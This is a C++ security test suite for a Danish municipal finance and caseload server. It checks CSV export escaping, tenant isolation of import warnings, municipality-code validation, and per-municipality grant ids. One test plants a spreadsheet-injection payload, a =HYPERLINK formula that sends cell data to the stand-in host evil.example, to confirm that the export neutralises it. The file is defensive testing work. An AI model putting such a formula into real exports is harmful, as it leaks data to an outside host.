// Finance and export security on a real server, each case as an attacker would try it:
//  - text a user typed reaches "Hent CSV" (format=csv-da) as text, never as a spreadsheet formula;
//  - a leader's finance import answers with warnings about their own municipality's grants only;
//  - a grant must belong to a municipality of the reference list (not "000", not 999), grant ids
//    are per municipality (one municipality cannot take an id another needs), and an unknown grant
//    id gets the same answer whether another municipality has it or nobody has.
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "common/csv.h"
#include "server/test_server.h"

namespace fremdrift::server::testing {
namespace {

using nlohmann::json;

json File(const std::string& name, const std::string& text) {
  return {{"name", name}, {"text", text}};
}
std::string Import(const std::vector<json>& files) { return json{{"files", files}}.dump(); }
std::string Message(const httplib::Result& r) {
  if (!r) return "";
  auto body = json::parse(r->body, nullptr, false);
  if (body.is_discarded() || !body.contains("error")) return "";
  return body["error"]["message"].get<std::string>();
}

const char* const kGrantHeader = "id;municipality;funder;pool;amount;start;end;service_area\n";

class SecurityFinanceTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() { server_ = TestServer::Start().release(); }
  static void TearDownTestSuite() {
    delete server_;
    server_ = nullptr;
  }
  static int Port() { return server_->port(); }
  static TestServer* server_;
};
TestServer* SecurityFinanceTest::server_ = nullptr;

// A caseworker's name typed as a formula: the leader's CSV download of the caseloads carries it
// with a leading apostrophe (Excel shows the text), not as a live =HYPERLINK.
TEST_F(SecurityFinanceTest, CsvDownloadCarriesNoFormula) {
  Session cw(Port()), leader(Port());
  ASSERT_EQ(cw.Login("sb657"), 200);
  ASSERT_EQ(leader.Login("leder657"), 200);
  const std::string formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Se sag\")";
  auto posted = cw.Post("/api/v1/events",
                        json{{"person", TestServer::kHerningCitizens[0]},
                             {"kommune", 657},
                             {"date", "2019-02-01"},
                             {"type", "caseworker_assigned"},
                             {"attributes", {{"caseworker", formula}, {"role", "koordinerende"}}}}
                            .dump());
  ASSERT_TRUE(posted);
  ASSERT_EQ(posted->status, 201) << posted->body;
  auto csv = leader.Get("/api/v1/measurements/haandholdt?del=sagsstamme&format=csv-da");
  ASSERT_TRUE(csv);
  ASSERT_EQ(csv->status, 200) << csv->body;
  auto doc = ParseCsvDocument(StripBom(csv->body), "sagsstamme.csv", ';');
  ASSERT_TRUE(doc.ok()) << doc.status().ToString();
  int escaped = 0;
  for (const auto& row : doc->rows) {
    for (const auto& cell : row) {
      EXPECT_NE(cell.substr(0, 1), "=") << cell;
      escaped += cell == "'" + formula;
    }
  }
  EXPECT_GT(escaped, 0) << csv->body;
  // On the wire: the quoted field starts with the apostrophe.
  EXPECT_NE(csv->body.find(";\"'=HYPERLINK("), std::string::npos) << csv->body;
  EXPECT_EQ(csv->body.find(";\"=HYPERLINK("), std::string::npos) << csv->body;
  // The plain CSV (format=csv, as the CLI's) is as safe.
  auto plain = leader.Get("/api/v1/measurements/haandholdt?del=sagsstamme&format=csv");
  ASSERT_TRUE(plain);
  ASSERT_EQ(plain->status, 200) << plain->body;
  EXPECT_NE(plain->body.find("\"'=HYPERLINK("), std::string::npos) << plain->body;
  EXPECT_EQ(plain->body.find("\"=HYPERLINK("), std::string::npos) << plain->body;
}

// The warnings of a leader's import speak only of that municipality's grants. Helsingør's grant
// whose appropriations do not add up is warned about to the admin who imports it, and never
// shown to Herning's leader.
TEST_F(SecurityFinanceTest, ImportWarningsStayInTheMunicipality) {
  Session admin(Port()), leader(Port());
  ASSERT_EQ(admin.Login("admin"), 200);
  ASSERT_EQ(leader.Login("leder657"), 200);
  auto theirs = admin.Post(
      "/api/v1/finance/import",
      Import({File("g.csv", std::string(kGrantHeader) +
                                "HEL-WARN;217;STAR;Pulje H;1.000;2019-01-01;2019-12-31;17\n"),
              File("b.csv", "grant;year;service_area;amount\nHEL-WARN;2019;17;750\n")}));
  ASSERT_TRUE(theirs);
  ASSERT_EQ(theirs->status, 201) << theirs->body;
  json w = json::parse(theirs->body)["warnings"];
  ASSERT_EQ(w.size(), 1u) << theirs->body;
  EXPECT_EQ(w[0],
            "HEL-WARN: årsbeløbene summer til 750 kr., tilsagnet er 1.000 kr. (forskel "
            "250 kr.)");

  // Herning's leader imports a grant of their own that adds up: no warnings at all.
  auto own =
      leader.Post("/api/v1/finance/import",
                  Import({File("g.csv", std::string(kGrantHeader) +
                                            "HER-OK;657;STAR;Pulje;500;2019-01-01;2019-12-31;17\n"),
                          File("b.csv", "grant;year;service_area;amount\nHER-OK;2019;17;500\n")}));
  ASSERT_TRUE(own);
  ASSERT_EQ(own->status, 201) << own->body;
  EXPECT_TRUE(json::parse(own->body)["warnings"].empty()) << own->body;
  EXPECT_EQ(own->body.find("HEL-WARN"), std::string::npos) << own->body;
  EXPECT_EQ(own->body.find("750"), std::string::npos) << own->body;
  // One of their own that does not add up is warned about.
  auto short_one =
      leader.Post("/api/v1/finance/import",
                  Import({File("b.csv", "grant;year;service_area;amount\nHER-OK;2019;17;499\n")}));
  ASSERT_TRUE(short_one);
  ASSERT_EQ(short_one->status, 201) << short_one->body;
  json sw = json::parse(short_one->body)["warnings"];
  ASSERT_EQ(sw.size(), 1u) << short_one->body;
  EXPECT_EQ(sw[0].get<std::string>().rfind("HER-OK: ", 0), 0u) << sw[0];
}

// A grant of municipality 000 or of a code that is no municipality is refused, for leaders and
// admins alike, and nothing is stored.
TEST_F(SecurityFinanceTest, GrantsBelongToARealMunicipality) {
  Session admin(Port()), leader(Port()), analyst(Port());
  ASSERT_EQ(admin.Login("admin"), 200);
  ASSERT_EQ(leader.Login("leder657"), 200);
  ASSERT_EQ(analyst.Login("analytiker"), 200);
  for (Session* who : {&leader, &admin}) {
    auto zero =
        who->Post("/api/v1/finance/import",
                  Import({File("g.csv", std::string(kGrantHeader) +
                                            "JUNK0;000;X;P;1;2019-01-01;2019-12-31;17\n")}));
    ASSERT_TRUE(zero);
    EXPECT_EQ(zero->status, 400) << zero->body;
    EXPECT_EQ(Message(zero), "g.csv:2: column 'municipality': '000' is not a municipality code");
  }
  auto nowhere =
      admin.Post("/api/v1/finance/import",
                 Import({File("g.csv", std::string(kGrantHeader) +
                                           "JUNK9;999;X;P;1;2019-01-01;2019-12-31;17\n")}));
  ASSERT_TRUE(nowhere);
  EXPECT_EQ(nowhere->status, 400) << nowhere->body;
  EXPECT_EQ(Message(nowhere), "g.csv:2: grant 'JUNK9': 999 is not a municipality code");
  auto all = analyst.Get("/api/v1/finance/grants");
  ASSERT_TRUE(all);
  ASSERT_EQ(all->status, 200);
  EXPECT_EQ(all->body.find("JUNK"), std::string::npos) << all->body;
}

// Grant ids are per municipality: Herning's leader storing Helsingør's id first does not stop
// Helsingør's grant (before, the admin's import failed with "is stored for municipality 657; it
// cannot move"), and each municipality sees its own. A leader naming another municipality's grant
// gets the answer for an id nobody has.
TEST_F(SecurityFinanceTest, GrantIdsArePerMunicipality) {
  Session admin(Port()), leader(Port());
  ASSERT_EQ(admin.Login("admin"), 200);
  ASSERT_EQ(leader.Login("leder657"), 200);
  auto squat = leader.Post(
      "/api/v1/finance/import",
      Import({File("g.csv", std::string(kGrantHeader) +
                                "FSM2-217-2019;657;STAR;FSM2;10;2019-01-01;2019-12-31;17\n")}));
  ASSERT_TRUE(squat);
  ASSERT_EQ(squat->status, 201) << squat->body;
  auto real = admin.Post(
      "/api/v1/finance/import",
      Import({File("g.csv", std::string(kGrantHeader) +
                                "FSM2-217-2019;217;STAR;FSM2;2.000;2019-01-01;2019-12-31;17\n"),
              File("b.csv",
                   "grant;municipality;year;service_area;amount\n"
                   "FSM2-217-2019;217;2019;17;2.000\n")}));
  ASSERT_TRUE(real);
  ASSERT_EQ(real->status, 201) << real->body;
  EXPECT_EQ(real->body.find("cannot move"), std::string::npos);

  auto helsingoer = json::parse(admin.Get("/api/v1/finance/grants?kommune=217")->body)["tilsagn"];
  bool found = false;
  for (const auto& g : helsingoer) {
    if (g["id"] != "FSM2-217-2019") continue;
    found = true;
    EXPECT_EQ(g["kommune"], "217");
    EXPECT_EQ(g["tilskud"], 2000);
    ASSERT_EQ(g["bevillinger"].size(), 1u);
    EXPECT_EQ(g["bevillinger"][0]["udgift"], 2000);
  }
  EXPECT_TRUE(found);
  auto herning = json::parse(leader.Get("/api/v1/finance/grants")->body)["tilsagn"];
  found = false;
  for (const auto& g : herning) {
    EXPECT_EQ(g["kommune"], "657");
    if (g["id"] != "FSM2-217-2019") continue;
    found = true;
    EXPECT_EQ(g["tilskud"], 10);
    EXPECT_TRUE(g["bevillinger"].empty());
  }
  EXPECT_TRUE(found);

  // Appropriations for an id only Helsingør has, and for an id nobody has: the same 400.
  auto probe = [&](const std::string& id) {
    auto r = leader.Post(
        "/api/v1/finance/import",
        Import({File("b.csv", "grant;year;service_area;amount\n" + id + ";2019;17;5\n")}));
    EXPECT_TRUE(r);
    EXPECT_EQ(r ? r->status : 0, 400) << id;
    return Message(r);
  };
  auto admin_only =
      admin.Post("/api/v1/finance/import",
                 Import({File("g.csv", std::string(kGrantHeader) +
                                           "HEL-ONLY;217;STAR;P;100;2019-01-01;2019-12-31;17\n")}));
  ASSERT_EQ(admin_only->status, 201) << admin_only->body;
  const std::string theirs = probe("HEL-ONLY"), nobodys = probe("NOBODY-XYZ");
  EXPECT_EQ(theirs, "b.csv:2: column 'grant': 'HEL-ONLY' is neither in this import nor stored");
  EXPECT_EQ(nobodys, "b.csv:2: column 'grant': 'NOBODY-XYZ' is neither in this import nor stored");
  EXPECT_EQ(theirs.find("217"), std::string::npos);
  // Naming the other municipality outright is a write to it: refused as such.
  auto named = leader.Post("/api/v1/finance/import",
                           Import({File("b.csv",
                                        "grant;municipality;year;service_area;amount\n"
                                        "HEL-ONLY;217;2019;17;5\n")}));
  ASSERT_TRUE(named);
  EXPECT_EQ(named->status, 403) << named->body;
  // Helsingør's grant is unchanged.
  const json after = json::parse(admin.Get("/api/v1/finance/grants?kommune=217")->body);
  int seen = 0;
  for (const auto& g : after["tilsagn"]) {
    if (g["id"] != "HEL-ONLY") continue;
    ++seen;
    EXPECT_TRUE(g["bevillinger"].empty());
  }
  EXPECT_EQ(seen, 1);
}

}  // namespace
}  // namespace fremdrift::server::testing
